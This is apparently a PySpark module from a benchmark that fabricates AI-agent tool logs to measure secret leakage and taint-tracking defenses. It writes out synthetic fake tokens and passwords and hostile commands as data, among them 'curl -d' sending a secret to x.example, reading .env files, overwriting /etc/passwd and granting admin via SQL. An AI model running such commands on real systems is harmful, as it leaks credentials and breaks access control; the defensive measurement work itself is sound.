"""Views that turn the given tables into agent logs, outcomes and paired arms.

Each view is one SQL text used by both engines; only hash and JSON function names
differ. The analysis on top is written twice (DataFrame operators here, plain SQL
in the twins), so the comparison tests the operators.
"""

from __future__ import annotations

from pyspark.sql import DataFrame, SparkSession
from pyspark.sql import functions as F

from leaktrail.functions.secrets import build_dictionary
from leaktrail.plans.registry import spread, table
from leaktrail.session import maybe_broadcast, staged

_SPARK = {"J": "CAST(get_json_object(props, '$.k') AS INT)", "SHA": "sha2({}, 256)", "BS": "char(92)", "NL": "char(10)"}
_DUCK = {"J": "CAST(json_extract_string(props, '$.k') AS INT)", "SHA": "sha256({})", "BS": "chr(92)", "NL": "chr(10)"}

_SECRET = """CASE k % 5 WHEN 0 THEN 'sk_live_' || substr(h, 1, 24)
     WHEN 1 THEN 'xoxb-' || substr(h, 1, 10) || '-' || substr(h, 11, 16)
     WHEN 2 THEN 'ops' || substr(h, 1, 9) || '@corp' || e || '.example'
     WHEN 3 THEN (100 + e * 100 + k) || '-12-' || lpad((k * 37 + e) || '', 4, '0')
     ELSE 'Pg$' || substr(h, 1, 20) END"""
_CORE = """CASE k % 5 WHEN 0 THEN substr(h, 1, 24) WHEN 1 THEN substr(h, 11, 16)
     WHEN 2 THEN 'ops' || substr(h, 1, 9) || '@corp' || e
     WHEN 3 THEN substr((100 + e * 100 + k) || '', 2, 2) || '-12-' || lpad((k * 37 + e) || '', 4, '0')
     ELSE substr(h, 5, 16) END"""
_ENV = """CASE {} WHEN 0 THEN 'risky_v1' WHEN 1 THEN 'risky_v2' WHEN 2 THEN 'risky_v3' WHEN 3 THEN 'benign'
     WHEN 4 THEN 'hard_neg_v1' WHEN 5 THEN 'hard_neg_v2' ELSE 'hard_neg_v3' END"""

_TOOL_CASE = """SELECT *, event_id AS n,
         CASE event_type
           WHEN 'view' THEN CASE WHEN event_id % 10 = 3 THEN 'read_query' ELSE 'read_file' END
           WHEN 'error' THEN 'execute_command'
           WHEN 'click' THEN CASE event_id % 9 WHEN 0 THEN 'browser_navigate' WHEN 4 THEN 'fetch' ELSE 'browser_type' END
           WHEN 'purchase' THEN CASE WHEN event_id % 8 = 3 THEN 'add_observations' ELSE 'write_query' END
           ELSE CASE WHEN event_id % 12 = 5 THEN 'move_file' ELSE 'write_file' END END AS tool,
         CASE event_id % 4 WHEN 0 THEN '/ws/project_alpha/.env' WHEN 1 THEN '/ws/notes/a.md' WHEN 2 THEN '/ws/private/keys.txt'
              ELSE '/ws/data/' || (event_id % 20) || '.csv' END AS src,
         CASE event_id % 8 WHEN 0 THEN 'curl -d ' || s || ' http://x.example' WHEN 1 THEN 'cat /ws/.env'
              WHEN 2 THEN 'cp -r project_alpha/ /tmp/b' WHEN 3 THEN 'sudo systemctl restart db' WHEN 4 THEN 'echo ' || frag
              WHEN 5 THEN 'cp -r project_alpha/src /tmp' WHEN 6 THEN 'grep x ' || s ELSE 'ls -la' END AS cmd"""
_FRAGMENT = f"CASE k % 5 WHEN 1 THEN substr(h, 1, 10) WHEN 2 THEN 'ops' || substr(h, 1, 9) WHEN 4 THEN substr(h, 1, 20) ELSE {_CORE} END"
_KEYED = "SELECT event_id, ts, user_id, event_type, value, {J} AS k, user_id % 7 AS e FROM {EVENTS}"
#: the texts of one secret per (e, k)
_SECRET_TEXTS = f"SELECT e, k, {_SECRET} AS s, {_CORE} AS c, {_FRAGMENT} AS frag FROM (SELECT e, k, {{SHA}} AS h FROM {{KEYS}}) x"

#: tool_events: one agent log per user, with argument and result texts built from the row.
_TOOL_EVENTS = f"""
SELECT user_id || '' AS trace_id, user_id, event_id AS idx, event_id AS turn, ts, value, k, e, {_ENV.format('e')} AS env_type,
       tool, CASE tool WHEN 'read_file' THEN 'filesystem' WHEN 'write_file' THEN 'filesystem' WHEN 'move_file' THEN 'filesystem'
            WHEN 'execute_command' THEN 'shell' WHEN 'browser_type' THEN 'browser' WHEN 'browser_navigate' THEN 'browser'
            WHEN 'fetch' THEN 'fetch' WHEN 'write_query' THEN 'sqlite' WHEN 'read_query' THEN 'sqlite'
            WHEN 'add_observations' THEN 'memory' ELSE 'git' END AS server,
       CASE tool
        WHEN 'read_file' THEN '{{"path": "' || src || '"}}'
        WHEN 'read_query' THEN '{{"query": "select * from accounts"}}'
        WHEN 'execute_command' THEN '{{"command": "' || cmd || '"}}'
        WHEN 'browser_type' THEN '{{"text": "' || (CASE n % 4 WHEN 0 THEN s WHEN 1 THEN c ELSE 'hello' END) || '"}}'
        WHEN 'browser_navigate' THEN '{{"url": "https://x.example/?q=' || s || '"}}'
        WHEN 'fetch' THEN '{{"url": "https://api.example/?t=' || (CASE WHEN n % 2 = 0 THEN s ELSE 'none' END) || '"}}'
        WHEN 'write_query' THEN '{{"query": "' || (CASE WHEN n % 10 = 1 THEN 'UPDATE users SET role = ''admin'' WHERE id = 1'
             WHEN n % 4 = 0 THEN 'INSERT INTO notes VALUES (''' || s || ''')' WHEN n % 4 = 2 THEN 'INSERT INTO notes VALUES (''' || c || ''')'
             ELSE 'SELECT 1' END) || '"}}'
        WHEN 'add_observations' THEN '{{"observations": [{{"contents": ["' || (CASE WHEN n % 2 = 0 THEN s ELSE frag END) || '"]}}]}}'
        WHEN 'write_file' THEN '{{"path": "' || (CASE WHEN n % 17 = 0 THEN '/etc/passwd' WHEN n % 3 = 0 THEN '/ws/out/Deploy.sh' ELSE '/ws/report.md' END)
             || '", "content": "' || (CASE WHEN n % 14 = 0 THEN replace(s, '_', {{BS}} || {{BS}} || '_') WHEN n % 2 = 0 THEN s
                  WHEN n % 5 = 0 THEN c ELSE 'text' END) || '"}}'
        ELSE '{{"source": "' || src || '", "destination": "/tmp/x"}}' END AS args,
       CASE WHEN tool = 'read_file' THEN
              CASE WHEN n % 11 = 0 THEN repeat('x', 12000) || s WHEN n % 13 = 0 THEN coalesce(s2, s) WHEN n % 7 = 0 THEN 'half ' || c
                   WHEN n % 5 = 0 THEN replace(s, '_', {{BS}} || '_') ELSE 'password = ' || s END
            WHEN tool = 'read_query' THEN CASE WHEN n % 3 = 0 THEN 'role ''admin'' password ' || s ELSE 'token ' || s END
            WHEN tool = 'execute_command' THEN 'exit_code: ' || (n % 3) || {{NL}} || (CASE WHEN n % 4 = 0 THEN s ELSE 'done' END)
            WHEN n % 29 = 0 THEN 'Validation error: bad field' ELSE 'ok' END AS result_full,
       (tool = 'read_file' AND n % 11 = 0 AND n % 2 = 0) AS result_truncated,
       (tool <> 'execute_command' OR n % 3 = 0) AND n % 29 <> 0 AS success,
       CASE WHEN n % 29 = 0 THEN 'failed' ELSE '' END AS error,
       CASE WHEN tool = 'read_file' AND n % 7 = 0 AND n % 2 = 0 THEN 'True' WHEN tool IN ('read_file', 'read_query') THEN 'true'
            ELSE 'false' END AS canary_in_result,
       CASE WHEN tool = 'read_file' AND n % 11 = 0 THEN 'false' ELSE 'true' END AS canary_visible_to_llm,
       (tool IN ('write_file', 'write_query', 'browser_type') AND n % 2 = 0) AS canary_in_args,
       (n % 15 = 0 AND tool IN ('write_file', 'write_query', 'execute_command', 'browser_type', 'fetch', 'browser_navigate')) AS taint_blocked,
       s AS secret, c AS secret_core, s2 AS foreign_secret
FROM {{SOURCE}}
"""


def _fill(sql: str, engine: dict, **parts: str) -> str:
    sha = engine["SHA"].format("'secret:' || e || ':' || k")
    for name, text in {**parts, "SHA": sha, "J": engine["J"], "BS": engine["BS"], "NL": engine["NL"]}.items():
        sql = sql.replace("{" + name + "}", text)
    return sql


def _sanitized(events: DataFrame) -> DataFrame:
    """What the guard left of the arguments: the value gone, on odd rows its core still there."""
    marker = F.when(F.col("idx") % 2 == 0, F.lit("<REDACTED:taint_blocked>")).otherwise(F.col("secret_core"))
    return events.withColumn("sanitized_args", F.when(F.col("taint_blocked"), F.replace("args", F.col("secret"), marker)))


#: dimensions by session and folder, written once: a frame that ``persist`` keeps is given up as soon as a SQL text has named it
_DIMENSIONS: dict[tuple, DataFrame] = {}


def _keyed(events: DataFrame) -> DataFrame:
    """``_KEYED`` with k from a generator: the joins ask for a k that is not null, and a filter below them would read the JSON once more."""
    k = F.inline(F.array(F.struct(F.expr(_SPARK["J"]).alias("k"))))
    return events.select("event_id", "ts", "user_id", "event_type", "value", (F.col("user_id") % 7).alias("e"), k)


def _secret_texts(spark: SparkSession, sf_dir: str) -> DataFrame:
    """One secret per (environment, k) that occurs in the events; a dimension, kept like the dictionary."""
    key = (spark.sparkContext.applicationId, sf_dir, "texts")
    if key not in _DIMENSIONS:
        keys = _keyed(table(spark, sf_dir, "events")).select("e", "k").distinct()
        _DIMENSIONS[key] = staged(spark.sql(_fill(_SECRET_TEXTS, _SPARK, KEYS="{keys}"), keys=keys), "secret-texts")
    return _DIMENSIONS[key]


def tool_events(spark: SparkSession, sf_dir: str) -> DataFrame:
    return tool_events_from(spark, sf_dir, spread(table(spark, sf_dir, "events")))


def tool_events_from(spark: SparkSession, sf_dir: str, events: DataFrame) -> DataFrame:
    """The view over any frame or stream with the columns of ``events``."""
    texts = maybe_broadcast(_secret_texts(spark, sf_dir))
    foreign = texts.select(((F.col("e") + 6) % 7).alias("e"), "k", F.col("s").alias("s2"))
    rows = _keyed(events).join(texts, ["e", "k"]).join(foreign, ["e", "k"], "left")
    rows = spark.sql(_TOOL_CASE + " FROM {rows}", rows=rows)
    sql = _fill(_TOOL_EVENTS, _SPARK, SOURCE="@rows@")
    sql = sql.replace("{", "{{").replace("}", "}}").replace("@rows@", "{rows}")  # JSON braces survive the substitution
    return _sanitized(spark.sql(sql, rows=rows))


def secret_dictionary(spark: SparkSession, sf_dir: str) -> DataFrame:
    """The dictionary is a dimension (one row per environment and k): built once per session and kept."""
    key = (spark.sparkContext.applicationId, sf_dir)
    if key not in _DIMENSIONS:
        texts = _secret_texts(spark, sf_dir)
        _DIMENSIONS[key] = staged(build_dictionary(spark.sql(
            f"SELECT k AS canary_id, {_ENV.format('e')} AS env_type, s AS value FROM {{texts}}", texts=texts)), "secret-dictionary")
    return _DIMENSIONS[key]


_TRACE_COLUMNS = """
  CASE {u} % 3 WHEN 0 THEN 'risk' WHEN 1 THEN 'hard_negative' ELSE 'benign' END AS task_type,
  'model_' || ({u} % 5) AS model,
  CASE {u} % 10 WHEN 0 THEN 'file_to_file' WHEN 1 THEN 'file_to_doc' WHEN 2 THEN 'config_to_script' WHEN 3 THEN 'db_to_artifact'
       WHEN 4 THEN 'sensitive_to_shell' WHEN 5 THEN 'forced_multi_hop' WHEN 6 THEN 'git_history_leak' WHEN 7 THEN 'browser_to_local'
       WHEN 8 THEN 'indirect_exposure' ELSE 'benign_control' END AS mechanism,
  CASE {u} % 4 WHEN 0 THEN 'none' WHEN 1 THEN 'generic' WHEN 2 THEN 'moderate' ELSE 'detailed' END AS mitigation_level,
  CASE {u} % 6 WHEN 0 THEN 'taint_tracking' WHEN 1 THEN ' None ' WHEN 2 THEN '' ELSE 'none' END AS defense,
  'task_' || ({u} % 40) AS task_id, {u} % 8 = 0 AS completion_requires_secret, {u} % 13 = 0 AS truncated"""


def traces(spark: SparkSession, sf_dir: str) -> DataFrame:
    """One row per user: the trace-level attributes."""
    base = table(spark, sf_dir, "events").select("user_id").distinct()
    return spark.sql(f"SELECT user_id, user_id || '' AS trace_id, {_ENV.format('user_id % 7')} AS env_type, "
                     f"{_TRACE_COLUMNS.replace('{u}', 'user_id')} FROM {{base}}", base=base)


#: CTE texts for the SQL twins
_DUCK_TEXTS = _fill(_SECRET_TEXTS, _DUCK, KEYS="(SELECT DISTINCT e, k FROM keyed)")
_DUCK_ROWS = (f"({_TOOL_CASE} FROM (SELECT a.*, t.s, t.c, t.frag, o.s AS s2 FROM keyed a JOIN texts t ON a.e = t.e AND a.k = t.k "
              f"LEFT JOIN texts o ON o.e = (a.e + 1) % 7 AND o.k = a.k))")
TOOL_EVENTS_SQL = (f"keyed AS ({_fill(_KEYED, _DUCK, EVENTS='events')}),\ntexts AS ({_DUCK_TEXTS}),\n"
                   f"tool_events AS (SELECT *, CASE WHEN taint_blocked THEN replace(args, secret, CASE WHEN idx % 2 = 0 THEN "
                   f"'<REDACTED:taint_blocked>' ELSE secret_core END) END AS sanitized_args FROM ({_fill(_TOOL_EVENTS, _DUCK, SOURCE=_DUCK_ROWS)}))")
TRACES_SQL = (f"traces AS (SELECT user_id, user_id || '' AS trace_id, {_ENV.format('user_id % 7')} AS env_type, "
              f"{_TRACE_COLUMNS.replace('{u}', 'user_id')} FROM (SELECT DISTINCT user_id FROM events))")
DICTIONARY_SQL = f"""secrets AS (
  SELECT k AS canary_id, {_ENV.format('e')} AS env_type, {_SECRET} AS value, {_CORE} AS core,
         CASE k % 5 WHEN 1 THEN [{_CORE}, substr(h, 1, 10)] WHEN 2 THEN [{_CORE}, 'ops' || substr(h, 1, 9)]
              WHEN 4 THEN [{_CORE}, substr(h, 1, 20)] ELSE [{_CORE}] END AS fragments
  FROM (SELECT e, k, sha256('secret:' || e || ':' || k) AS h FROM
        (SELECT DISTINCT user_id % 7 AS e, CAST(json_extract_string(props, '$.k') AS INT) AS k FROM events)))"""

#: outcomes: documents as traces, labels as verdicts
OUTCOMES_SELECT = """SELECT d.doc_id, d.source AS model, d.lang AS mechanism, l.quality = 1 AS artifact_verified,
  l.toxic = 1 AS any_risk, d.n_chars, d.doc_id % 3 = 0 AS crs,
  CASE WHEN d.doc_id % 7 < 3 THEN 'risky' WHEN d.doc_id % 7 = 3 THEN 'benign' ELSE 'hard_neg' END AS env_class,
  CASE WHEN l.quality = 1 AND l.toxic = 0 THEN 'safe_success' WHEN l.quality = 1 THEN 'unsafe_success'
       WHEN l.toxic = 0 THEN 'safe_failure' ELSE 'unsafe_failure' END AS outcome
FROM {documents} d JOIN {labels} l ON d.doc_id = l.doc_id"""
OUTCOMES_SQL = "outcomes AS (" + OUTCOMES_SELECT.replace("{documents}", "documents").replace("{labels}", "labels") + ")"

ARMS_SELECT = """SELECT user_id, event_type, CASE WHEN ts < TIMESTAMP '2024-01-16 00:00:00' THEN 'baseline' ELSE 'defense' END AS arm,
  CAST(max(value) > 40 AS INT) AS unsafe, CAST(min(value) < 5 AS INT) AS useful FROM {events} GROUP BY 1, 2, 3"""
ARMS_SQL = "arms AS (" + ARMS_SELECT.replace("{events}", "events") + ")"

#: every registered cell in both arms; an arm that has no event of a cell has nothing unsafe and nothing useful there
WHOLE_ARMS_SQL = """registered AS (SELECT user_id, event_type, unnest(['baseline', 'defense']) AS arm FROM (SELECT DISTINCT user_id, event_type FROM events)),
whole_arms AS (SELECT user_id, event_type, arm, coalesce(a.unsafe, 0) AS unsafe, coalesce(a.useful, 0) AS useful FROM registered LEFT JOIN arms a USING (user_id, event_type, arm))"""


def outcomes(spark: SparkSession, sf_dir: str) -> DataFrame:
    return spark.sql(OUTCOMES_SELECT, documents=table(spark, sf_dir, "documents"), labels=table(spark, sf_dir, "labels"))


def arms(spark: SparkSession, sf_dir: str) -> DataFrame:
    return spark.sql(ARMS_SELECT, events=table(spark, sf_dir, "events"))


def whole_arms(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Both arms over the registry of cells (users and the kinds of events they have at any time)."""
    registered = table(spark, sf_dir, "events").select("user_id", "event_type").distinct()
    sides = registered.select("*", F.explode(F.array(F.lit("baseline"), F.lit("defense"))).alias("arm"))
    return sides.join(arms(spark, sf_dir), ["user_id", "event_type", "arm"], "left").fillna(0, ["unsafe", "useful"])


def with_sql(*ctes: str) -> str:
    return "WITH " + ",\n".join(ctes) + "\n"
